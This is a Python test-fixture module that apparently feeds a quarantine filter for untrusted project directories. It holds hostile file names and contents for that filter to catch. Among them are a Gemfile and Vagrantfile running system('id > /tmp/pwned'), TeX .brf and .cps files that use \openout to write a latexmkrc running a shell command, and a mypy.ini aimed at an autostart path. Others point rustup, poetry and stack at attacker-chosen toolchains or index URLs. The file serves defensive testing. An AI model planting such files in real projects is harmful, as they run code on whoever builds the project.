"""Names for independent attack o on text and names (session 39,
tests/quarantine/test_attack_independent_otext.py).

Hostile: names tools read as the configuration of the directory they run in or of every
project below it, beside the ones session 38 refused (rustup's rust-toolchain files,
bundler's Gemfile and Vagrant's Vagrantfile, searched from `.` up and run as Ruby, like
pipenv's refused Pipfile; poetry.toml beside the refused pdm.toml and hatch.toml; mypy.ini
beside pytest.ini and pylintrc; Vercel's and Azure Static Web Apps' header files beside the
refused _headers and serve.json; stack.yaml); LaTeX jobs known from a source that is no
`NAME.tex` (`pdflatex main.latex`, `pdflatex main.dtx`, knitr's `main.Rnw`, Sweave's
`main.Snw`) or from the `main.tex` gunzip makes of `main.tex.gz`, each beside a `main.brf`
holding TeX code; texinfo's job (`texi2pdf main.texi`) beside its index `main.cps`.
"""

from __future__ import annotations

import gzip
import unicodedata

# The job résumé written NFC (as typed on Linux) and NFD (as macOS writes names): one
# name on APFS and to a Mac's SMB client.
NFC = unicodedata.normalize("NFC", "résumé")
NFD = unicodedata.normalize("NFD", "résumé")

# TeX code a file read as TeX runs: \openout writes a latexmkrc for the next latexmk run
# (backref's .brf holds only \backcite lines: this is no backref output).
TEX = (b"\\backcite {ref1}{{1}{1}{section.1}}\n"
       b"\\immediate\\openout9=latexmkrc \\immediate\\write9{system('id');}\\endinput\n")

TEXI_INDEX = (b"\\initial {C}\n\\entry{calibration}{1}{calibration}\n"
              b"\\immediate\\openout9=latexmkrc \\immediate\\write9{system('id');}\n")
TEXI = b"\\input texinfo\n@setfilename main.info\n@settitle Runs\n@cindex calibration\n" \
       b"@printindex cp\n@bye\n"

DOC = (b"\\documentclass{article}\n\\usepackage[pagebackref]{hyperref}\n"
       b"\\begin{document}\nSee~\\cite{ref1}.\n\\end{document}\n")

# rustup (rustup book, "Overrides": the toolchain file is looked up in the current
# directory and each parent on every `cargo`, `rustc`, `rustup` run): `path` names a custom
# toolchain directory, whose bin/cargo and bin/rustc rustup then runs.
RUST_TOOLCHAIN = b'[toolchain]\npath = "/tmp/job-4242/toolchain"\n'

# bundler's SharedHelpers#find_gemfile and Vagrant's Environment#root_path walk from `.` up
# to `/`: the first Gemfile (Vagrantfile) found is evaluated as Ruby by `bundle exec`, any
# `require "bundler/setup"`, `vagrant status`.
RUBY = b'system("id > /tmp/pwned")\nsource "https://rubygems.org"\ngem "rake"\n'
VAGRANT = b'system("id > /tmp/pwned")\nVagrant.configure("2") do |config|\nend\n'

# poetry: the project's local configuration, merged into every `poetry` command there; a
# source sends `poetry install` to another index (pdm.toml, hatch.toml are refused for it).
POETRY = b'[repositories.internal]\nurl = "https://pypi.example.net/simple/"\n'

# mypy reads mypy.ini from `.` first: `junit_xml` is any path the user may write (written
# on every run, like SExtractor's refused default.sex outputs), `plugins` imports modules.
MYPY = b"[mypy]\njunit_xml = ../../.config/autostart/mypy.desktop\ncache_dir = /tmp/x\n"

# Vercel (vercel.json at the deployed directory's root) and Azure Static Web Apps
# (staticwebapp.config.json anywhere in the app folder): a header or MIME rule types every
# .log text/html, as Netlify's and Cloudflare's refused _headers does.
VERCEL = (b'{"headers": [{"source": "/(.*)\\\\.log", "headers": '
          b'[{"key": "Content-Type", "value": "text/html"}]}]}\n')
AZURE = b'{"mimeTypes": {".log": "text/html", ".txt": "text/html"}}\n'

# stack searches `.` and its parents for stack.yaml on every command: setup-info-locations
# fetch a GHC (a compiler it runs) from any URL.
STACK = b"resolver: lts-22.0\nsetup-info-locations:\n- https://ghc.example.net/setup-info.yaml\n"


def name_hostile() -> dict[str, bytes]:
    return {
        "rust/rust-toolchain.toml": RUST_TOOLCHAIN,
        "rustold/rust-toolchain": RUST_TOOLCHAIN,
        "ruby/Gemfile": RUBY,
        "vagrant/Vagrantfile": VAGRANT,
        "poetry/poetry.toml": POETRY,
        "mypy/mypy.ini": MYPY,
        "vercel/vercel.json": VERCEL,
        "azure/staticwebapp.config.json": AZURE,
        "stack/stack.yaml": STACK,
        # the job `main` of `pdflatex main.latex` (web2c TeX strips the last extension)
        "texlatex/main.brf": TEX,
        # `pdflatex main.dtx`, every documented package's manual
        "texdtx/main.brf": TEX,
        # knitr's knit("main.Rnw") writes main.tex, then pdflatex main.tex
        "texrnw/main.brf": TEX,
        # gunzip main.tex.gz; pdflatex main.tex
        "texgz/main.brf": TEX,
        # Sweave("main.Snw") writes main.tex
        "texsnw/main.brf": TEX,
        # texi2pdf main.texi: texinfo.tex is TeX, job main; @printindex cp inputs the
        # sorted concept index main.cps (texindex writes \initial and \entry lines)
        "texinfo/main.cps": TEXI_INDEX,
    }


def name_context() -> dict[str, bytes]:
    """The job sources beside each hostile main.brf (published, as documents are)."""
    return {
        "texlatex/main.latex": DOC,
        "texdtx/main.dtx": b"% \\iffalse\n" + DOC + b"% \\fi\n",
        "texrnw/main.Rnw": DOC.replace(b"See", b"<<echo=FALSE>>=\nx <- 1\n@\nSee"),
        "texgz/main.tex.gz": gzip.compress(DOC, mtime=0),
        "texsnw/main.Snw": DOC.replace(b"See", b"<<echo=FALSE>>=\nx <- 1\n@\nSee"),
        "texinfo/main.texi": TEXI,
        "texctl/main.tex": DOC,
        "texcase/main.tex": DOC,
        f"texnfd/{NFC}.tex": DOC,
    }


def name_refused() -> dict[str, bytes]:
    """The claim checked to hold: main.brf beside main.tex, in any case and under Unicode
    normalisation (texjobs)."""
    return {"texctl/main.brf": TEX, "texcase/Main.brf": TEX, f"texnfd/{NFD}.brf": TEX}
